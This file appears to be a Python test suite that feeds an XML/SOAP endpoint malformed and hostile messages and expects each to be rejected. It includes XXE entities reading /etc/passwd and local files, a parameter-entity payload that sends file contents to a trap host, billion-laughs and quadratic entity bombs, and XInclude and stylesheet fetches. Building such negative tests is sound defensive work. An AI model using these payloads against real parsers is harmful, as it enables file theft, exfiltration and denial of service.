"""Row 1, DOCTYPE, entities, XInclude, stylesheets, encodings; and row 3, what is not well-formed."""

import codecs

from case import CANARY_TEXT, Case, accepted, envelope, fault, kirim, with_name, xml_case

INVALID = "PESAN_TIDAK_SAH"
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>\n'


def bad(name: str, body: bytes) -> Case:
    return xml_case(name, body, fault(INVALID), INVALID)


def after_declaration(inserted: str) -> bytes:
    return envelope().replace(b"\n", b"\n" + inserted.encode(), 1)


def doctypes(trap: str, file: str) -> list[Case]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    subsets = {
        "bare": "<!DOCTYPE x>",
        "of an HTML page": "<!DOCTYPE html>",
        "in lower case": "<!doctype x>",
        "without a name": "<!DOCTYPE>",
        "that does not end": "<!DOCTYPE x [",
        "with an external subset": f'<!DOCTYPE x SYSTEM "{trap}/x.dtd">',
        "with a file as external subset": f'<!DOCTYPE x SYSTEM "file://{file}">',
        "with a public identifier": f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{trap}/x.dtd">',
        "with a file as entity": f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{file}">]>',
        "with an address as entity": f'<!DOCTYPE x [<!ENTITY f SYSTEM "{trap}/e">]>',
        "with a parameter entity": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{trap}/p"> %p;]>',
        "with a parameter entity that leads out":
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{trap}/?%f;\'>">%e;]>',
        "with a default attribute": '<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>',
        "with a notation": f'<!DOCTYPE x [<!NOTATION n SYSTEM "{trap}/n"><!ENTITY f SYSTEM "{trap}" NDATA n>]>',
        "of a billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "of quadratic growth": f'<!DOCTYPE x [<!ENTITY f "{"a" * 50_000}">]>',
        "of an entity within itself": '<!DOCTYPE x [<!ENTITY f "&g;"><!ENTITY g "&f;">]>',
        "with a conditional section": "<!DOCTYPE x [<![INCLUDE[<!ENTITY f 'g'>]]>]>",
        "behind a comment": "<!-- x --><!DOCTYPE x>",
        "with the canary": f'<!DOCTYPE {CANARY_TEXT} [<!ENTITY f "{CANARY_TEXT}">]>',
    }
    cases = [bad(f"a DOCTYPE {name}", after_declaration(subset)) for name, subset in subsets.items()]
    use = {"a file": f'file://{file}', "an address": f"{trap}/e", "php's filter": "php://filter/resource=/etc/passwd",
           "a jar": f"jar:{trap}!/x", "a relative name": "../../etc/passwd", "ftp": "ftp://127.0.0.1:1/x"}
    for name, system in use.items():
        declared = f'<!DOCTYPE x [<!ENTITY f SYSTEM "{system}">]>'
        cases.append(bad(f"a used entity from {name}", after_declaration(declared).replace(b"KENARI", b"&f;KENARI")))
    cases += [bad("a DOCTYPE behind the root", envelope() + b"<!DOCTYPE x>"),
              bad("a DOCTYPE in the body", with_name("<!DOCTYPE x>")),
              bad("a DOCTYPE before the declaration", b"<!DOCTYPE x>" + envelope()),
              bad("a DOCTYPE without a declaration", b"<!DOCTYPE x>" + envelope()[len(DECLARATION):]),
              bad("an ENTITY outside of a DOCTYPE", after_declaration('<!ENTITY f "g">')),
              bad("an ELEMENT inside the body", with_name("<!ELEMENT x ANY>")),
              bad("an INCLUDE section inside the body", with_name("<![INCLUDE[x]]>"))]
    return cases


def entities() -> list[Case]:
    texts = ["&nbsp;", "&f;", "&AMP;", "&lt", "& ", "&", "&;", "&#;", "&#x;", "&#xG;", "&#-1;", "&#+65;", "&# 65;",
             "&#X41;", "&#65", "%f;&f;", "&lt;&f;", "&amp;&#38;f;&f;"]
    cases = [bad(f"the entity {text!r} in a text", with_name(f"{CANARY_TEXT}{text}")) for text in texts]
    cases += [bad(f"the entity {text!r} in an attribute",
                  envelope(header=f'<e:Header><u:x a="{CANARY_TEXT}{text}"/></e:Header>'))
              for text in ("&f;", "&nbsp;", "&", "&#x;", "<")]
    return cases


def inclusions(trap: str, file: str) -> list[Case]:
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>'
    instance = 'xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
    hint = f'{instance} x:schemaLocation="urn:jembatan:pekerja:1 {trap}/x.xsd"'
    other = f'{instance} x:noNamespaceSchemaLocation="{trap}/y.xsd"'
    here = envelope()
    instructions = {"a stylesheet": f'<?xml-stylesheet type="text/xsl" href="{trap}/x.xsl"?>', "php": "<?php phpinfo() ?>",
                    "a catalog": f'<?oasis-xml-catalog catalog="{trap}"?>', "an upper-case XML": "<?XML version='1.0'?>",
                    "a second declaration": '<?xml version="1.0"?>', "one that does not end": "<?x ", "no name": "<? x ?>"}
    cases = [bad("XInclude in a record", envelope(kirim(f"<s:pekerja>{include}</s:pekerja>"))),
             bad("XInclude in a text", with_name(include)),
             xml_case("XInclude in the Body", envelope(include), fault("OPERASI_TIDAK_DIKENAL"), "OPERASI_TIDAK_DIKENAL"),
             xml_case("XInclude in a header block", envelope(header=f"<e:Header>{include}</e:Header>"), accepted("DITERIMA")),
             bad("an XLink in a record", here.replace(b"<s:nama>", f'<s:nama xmlns:l="http://www.w3.org/1999/xlink" l:href="{trap}">'.encode())),
             bad("xml:base in a record", here.replace(b"<s:nama>", f'<s:nama xml:base="{trap}/">'.encode())),
             xml_case("a schemaLocation elsewhere", envelope().replace(b"<s:KirimPekerja>", f"<s:KirimPekerja {hint}>".encode()),
                      accepted("DITERIMA")),
             xml_case("a noNamespaceSchemaLocation elsewhere",
                      envelope().replace(b"<e:Envelope ", f"<e:Envelope {other} ".encode()), accepted("DITERIMA")),
             bad("a schema in the message", with_name('<x:schema xmlns:x="http://www.w3.org/2001/XMLSchema"/>'))]
    for name, text in instructions.items():
        cases.append(bad(f"an instruction before the root: {name}", after_declaration(text)))
    for name in ("a stylesheet", "a second declaration", "php"):
        cases.append(bad(f"an instruction in a text: {name}", with_name(instructions[name])))
        cases.append(bad(f"an instruction behind the root: {name}", here + instructions[name].encode()))
    return cases


def _declared(encoding: str) -> str:
    return envelope().decode().replace("UTF-8", encoding, 1)


def encodings() -> list[Case]:
    cases = []
    for name, marks in {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE,
                        "utf-32-le": codecs.BOM_UTF32_LE, "utf-32-be": codecs.BOM_UTF32_BE}.items():
        for mark, said in ((marks, "with"), (b"", "without")):
            cases.append(bad(f"{name} {said} a byte order mark", mark + _declared(name.upper()).encode(name)))
        cases.append(bad(f"{name} that says UTF-8", marks + envelope().decode().encode(name)))
    for name in ("cp037", "cp500", "cp1026", "utf-7"):
        cases.append(bad(f"bytes in {name}", _declared(name.upper()).encode(name)))
    for name in ("ISO-8859-1", "windows-1252", "UTF-16", "UTF-32", "US-ASCII", "Shift_JIS", "UTF8", "", "utf-8 ", "UTF-7",
                 "x" * 300, "\u00fctf-8"):
        cases.append(bad(f"UTF-8 that says {name[:20]!r}", _declared(name).encode()))
    here = envelope()
    cases += [bad("Latin-1 bytes that say UTF-8", here.replace(b"KENARI", b"\xe9KENARI")),
              bad("a byte order mark twice", codecs.BOM_UTF8 * 2 + here),
              bad("a byte order mark behind a blank", b" " + codecs.BOM_UTF8 + here),
              bad("a byte order mark and no more", codecs.BOM_UTF8),
              bad("a blank before the declaration", b"\n" + here),
              bad("XML 1.1", here.replace(b'version="1.0"', b'version="1.1"')),
              bad("XML 2.0", here.replace(b'version="1.0"', b'version="2.0"')),
              bad("a declaration without a version", here.replace(b' version="1.0"', b"")),
              bad("a declaration with a stranger", here.replace(b"?>", b" x='y'?>", 1)),
              bad("a declaration that does not end", here.replace(b"?>", b"", 1)),
              xml_case("a Content-Type of UTF-16", here, fault(INVALID, status=415), INVALID, content_type="text/xml; charset=utf-16"),
              xml_case("a Content-Type of Latin-1", here, fault(INVALID, status=415), INVALID,
                       content_type='text/xml; charset="iso-8859-1"')]
    return cases


def not_well_formed() -> list[Case]:
    here = envelope()
    cut = {f"after {part} in 7": here[:len(here) * part // 7] for part in range(1, 7)}
    changed = {
        "an end tag too few": here.replace(b"</s:nama>", b""),
        "an end tag too many": here + b"</e:Envelope>",
        "overlapping tags": here.replace(b"<s:nama>", b"<s:nama><s:x>").replace(b"</s:nama>", b"</s:nama></s:x>"),
        "a second root": here + b"<x/>",
        "text behind the root": here + b"KENARI-0000",
        "text before the root": b"KENARI-0000" + here,
        "an attribute twice": here.replace(b"<e:Body>", b'<e:Body x="1" x="1">'),
        "an attribute twice by its namespace": here.replace(
            b"<e:Body>", b'<e:Body xmlns:a="urn:x" xmlns:b="urn:x" a:x="1" b:x="1">'),
        "an attribute without quotes": here.replace(b"<e:Body>", b"<e:Body x=1>"),
        "an attribute without a value": here.replace(b"<e:Body>", b"<e:Body x>"),
        "an attribute that does not end": here.replace(b"<e:Body>", b'<e:Body x="1>'),
        "a prefix that is not declared": here.replace(b"s:nama>", b"z:nama>"),
        "a name with two colons": here.replace(b"s:nama>", b"s:s:nama>"),
        "a name that begins with a digit": here.replace(b"s:nama>", b"s:1nama>"),
        "a prefix bound to nothing": here.replace(b"<e:Body>", b'<e:Body xmlns:z="">'),
        "the prefix xml bound to another": here.replace(b"<e:Body>", b'<e:Body xmlns:xml="urn:x">'),
        "the prefix xmlns bound": here.replace(b"<e:Body>", b'<e:Body xmlns:xmlns="urn:x">'),
        "two hyphens in a comment": with_name("<!-- a -- b -->"),
        "a comment that does not end": with_name("<!-- a"),
        "CDATA that does not end": with_name("<![CDATA[ a"),
        "CDATA outside of the root": here + b"<![CDATA[x]]>",
        "]]> in a text": with_name(f"{CANARY_TEXT}]]>"),
        "< in a text": with_name(f"{CANARY_TEXT} < x"),
        "a tag that does not end": here.rstrip()[:-1],
        "nothing but a tag": b"<", "nothing but white space": b" \r\n\t ", "nothing but text": b"KENARI-0000",
        "JSON": b'{"nama": "KENARI-0000"}', "HTML": b"<html><body>KENARI-0000<br></body></html>",
    }
    cases = [bad(f"a message cut {name}", body) for name, body in cut.items()]
    cases += [bad(name, body) for name, body in changed.items()]
    return cases


def _inside(piece: bytes, where: str) -> bytes:
    here = envelope(header='<e:Header><u:x a="AAAA"/><!--BBBB--></e:Header>')
    place = {"a text": b"KENARI-0000", "an attribute": b"AAAA", "a comment": b"BBBB", "a name": b"s:nama"}[where]
    return here.replace(place, place + piece)


def characters() -> list[Case]:
    cases = [bad(f"the control character {code:#04x} in a text", _inside(bytes([code]), "a text"))
             for code in range(0x20) if code not in (9, 10, 13)]
    for where in ("an attribute", "a comment", "a name"):
        cases += [bad(f"the control character {code:#04x} in {where}", _inside(bytes([code]), where))
                  for code in (0x00, 0x01, 0x0B, 0x1B, 0x1F)]
    octets = {"an overlong <": b"\xc0\xbc", "an overlong / of three bytes": b"\xe0\x80\xaf", "an overlong NUL": b"\xc0\x80",
              "an overlong < of four bytes": b"\xf0\x80\x80\xbc", "an overlong of five bytes": b"\xf8\x80\x80\x80\xbc",
              "an overlong of six bytes": b"\xfc\x80\x80\x80\x80\xbc", "a lone high surrogate": b"\xed\xa0\x80",
              "a lone low surrogate": b"\xed\xbf\xbf", "a pair of surrogates": b"\xed\xa0\xbd\xed\xb8\x80",
              "beyond U+10FFFF": b"\xf4\x90\x80\x80", "U+FFFE": b"\xef\xbf\xbe", "U+FFFF": b"\xef\xbf\xbf", "0xFF": b"\xff",
              "0xFE": b"\xfe", "a lone continuation": b"\x80", "a sequence of two cut": b"\xc3<", "a sequence of three cut": b"\xe2\x82",
              "a sequence of four cut": b"\xf0\x9f\x98", "continuation by ASCII": b"\xe2A\xac"}
    for name, piece in octets.items():
        cases += [bad(f"{name} in {where}", _inside(piece, where)) for where in ("a text", "an attribute")]
    references = ["&#0;", "&#x0;", "&#1;", "&#8;", "&#11;", "&#x1F;", "&#xD800;", "&#xDFFF;", "&#55357;&#56832;", "&#xFFFE;",
                  "&#xFFFF;", "&#x110000;", "&#1114112;", "&#4294967361;", "&#x100000041;", "&#18446744073709551681;",
                  f"&#x{'0' * 40}0;", f"&#{'9' * 5000};"]
    for text in references:
        cases.append(bad(f"the reference {text[:24]} in a text", _inside(text.encode(), "a text")))
    cases += [bad(f"the reference {text} in an attribute", _inside(text.encode(), "an attribute"))
              for text in ("&#0;", "&#xD800;", "&#x110000;")]
    return cases


def cases(trap: str, file: str) -> dict[str, list[Case]]:
    return {"DOCTYPE, entities, XInclude, external schema or stylesheet, other encodings":
            doctypes(trap, file) + entities() + inclusions(trap, file) + encodings(),
            "not well-formed; NUL; control characters; overlong UTF-8; lone surrogates; references":
            not_well_formed() + characters()}
